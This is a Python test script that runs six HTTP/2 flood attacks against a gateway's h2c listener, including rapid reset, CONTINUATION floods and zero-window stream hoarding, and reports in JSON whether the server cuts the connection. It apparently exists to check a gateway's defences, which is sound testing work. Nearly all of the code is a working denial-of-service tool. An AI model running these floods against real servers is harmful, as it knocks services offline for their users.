"""HTTP/2 floods against a gateway's h2c listener, with Python's `h2` package.

    python3 h2_floods.py HOST:PORT ATTACK SECONDS

ATTACK is one of rapid_reset, continuation, settings, ping, zero_window,
over_limit. The script floods for at most SECONDS (or until the server ends the
connection) and prints one JSON line: how it ended (`goaway` with its error
code, `closed`, or `open` if the server tolerated it), after how long, and how
many frames were sent. For zero_window (streams whose answers can never be
sent) the server should end each stream: `reset`, and `seconds` is the longest
any stream lived.
"""
import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hyperframe.frame


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    attack, seconds = sys.argv[2], float(sys.argv[3])
    sock = socket.create_connection((host, int(port)))
    sock.settimeout(0.001)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    if attack == "zero_window":
        conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    sock.sendall(conn.data_to_send())
    started = time.time()
    sent = 0
    outcome = {"ended": "open"}
    opened = {}  # stream id -> when it was opened (zero_window)
    headers = [(":method", "GET"), (":scheme", "http"), (":authority", "gw"), (":path", "/big")]

    def pump():
        """Read what the server sent; record a GOAWAY or a close."""
        try:
            data = sock.recv(1 << 20)
        except socket.timeout:
            return False
        except OSError:
            outcome.update(ended="closed")
            return True
        if not data:
            outcome.update(ended="closed")
            return True
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            return False
        for e in events:
            if isinstance(e, h2.events.StreamReset) and e.stream_id in opened:
                # How long the server kept this stream (zero_window).
                lived = time.time() - opened.pop(e.stream_id)
                outcome.update(ended="reset", seconds=max(outcome.get("seconds", 0), round(lived, 3)))
            if isinstance(e, h2.events.ConnectionTerminated):
                outcome.update(ended="goaway", error_code=int(e.error_code))
                return True
        return False

    def send(raw):
        nonlocal sent
        try:
            sock.sendall(raw)
            sent += 1
        except OSError:
            outcome.update(ended="closed")
            return False
        return True

    while time.time() - started < seconds:
        if attack == "rapid_reset":
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers, end_stream=True)
            conn.reset_stream(sid)
            ok = send(conn.data_to_send())
        elif attack == "continuation":
            # One HEADERS without END_HEADERS, then CONTINUATION frames forever.
            if sent == 0:
                f = hyperframe.frame.HeadersFrame(1)
                f.data = b"\x82\x86\x84"  # :method GET, :scheme http, :path /
                ok = send(f.serialize())
            else:
                c = hyperframe.frame.ContinuationFrame(1)
                c.data = b"\x40\x05x-pad\x83abc" * 100
                ok = send(c.serialize())
        elif attack == "settings":
            f = hyperframe.frame.SettingsFrame(0)
            f.settings = {h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100}
            ok = send(f.serialize())
        elif attack == "ping":
            f = hyperframe.frame.PingFrame(0)
            f.opaque_data = b"12345678"
            ok = send(f.serialize())
        elif attack == "zero_window":
            # Streams whose responses can never be sent (window 0).
            try:
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers, end_stream=True)
                opened[sid] = time.time()
                ok = send(conn.data_to_send())
            except h2.exceptions.TooManyStreamsError:
                ok = True
        elif attack == "over_limit":
            # Open streams past the advertised limit, never reading answers.
            sid = conn.get_next_available_stream_id()
            f = hyperframe.frame.HeadersFrame(sid)
            f.data = conn.encoder.encode(headers)
            f.flags.add("END_HEADERS")
            ok = send(f.serialize())
        else:
            raise SystemExit(f"unknown attack {attack}")
        if not ok or pump():
            break
    # Whatever the server still says.
    deadline = time.time() + 2
    while outcome["ended"] == "open" and time.time() < deadline:
        if pump():
            break
    if attack == "zero_window":
        # Streams still open: the longest any of them has lived so far.
        now = time.time()
        longest = max((now - t for t in opened.values()), default=0)
        outcome.update(still_open=len(opened))
        if opened and outcome["ended"] == "reset":
            outcome.update(seconds=max(outcome["seconds"], round(longest, 3)))
        outcome.update(attack=attack, frames=sent)
    else:
        outcome.update(attack=attack, seconds=round(time.time() - started, 3), frames=sent)
    print(json.dumps(outcome))


if __name__ == "__main__":
    main()
